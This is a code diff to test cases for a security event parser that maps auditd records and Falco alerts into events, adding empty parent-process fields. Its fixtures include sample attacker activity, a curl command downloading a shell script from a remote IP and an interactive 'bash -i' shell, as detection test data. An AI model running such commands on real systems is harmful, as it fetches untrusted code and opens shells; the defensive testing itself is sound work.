@@ -47,6 +47,8 @@ def test_auditd_records_join_into_mapped_events() -> None:
         "ppid": 2211,
         "process": "curl",
         "cmdline": "curl -sO http://198.51.100.7/x.sh",
+        "parent_process": "",  # its parent's exec is not in the log
+        "parent_cmdline": "",
     }
     assert exec_event["attributes"]["auditd.key"] == "exec"
     assert exec_event["attributes"]["auditd.records"] == "SYSCALL,EXECVE,CWD,PATH,PATH,PROCTITLE"
@@ -88,6 +90,8 @@ def test_falco_alerts_map_to_events() -> None:
         "ppid": 4200,
         "process": "bash",
         "cmdline": "bash -i",
+        "parent_process": "",
+        "parent_cmdline": "",
     }
     assert shell["attributes"]["falco.rule"] == "Terminal shell in container"
     assert shell["attributes"]["falco.tags"].endswith("T1059")
